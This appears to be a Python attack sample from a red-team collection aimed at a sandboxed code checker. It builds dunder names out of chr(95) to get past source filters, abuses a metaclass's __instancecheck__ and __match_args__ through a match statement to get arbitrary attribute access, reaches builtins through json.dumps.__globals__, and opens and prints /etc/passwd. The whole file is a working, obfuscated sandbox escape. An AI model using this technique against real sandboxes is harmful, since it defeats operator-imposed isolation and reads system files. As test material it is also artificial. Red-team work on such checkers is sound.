# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 3 match class pattern positional captures
# source: own; variant of 103: __match_args__ and __instancecheck__ supplied through type() with computed keys (no dunder in source)
# family: match class pattern positional capture + type() computed dunder keys
# goal: universal getattr -> json.dumps.__globals__ -> builtins -> open /etc/passwd
import json

u = chr(95) * 2
want = [""]
Meta = type("Meta", (type,), {u + "instancecheck" + u: lambda cls, obj: True,
                              u + "match_args" + u: property(lambda cls: (want[0],))})
Any = Meta("Any", (), {})


def grab(obj, name):
    want[0] = name
    match obj:
        case Any(v):
            return v


g = grab(json.dumps, u + "globals" + u)
f = g[u + "builtins" + u]["op" + "en"](chr(47) + "etc" + chr(47) + "passwd")
print(json.dumps({"evidence": f.read()[:100]}))
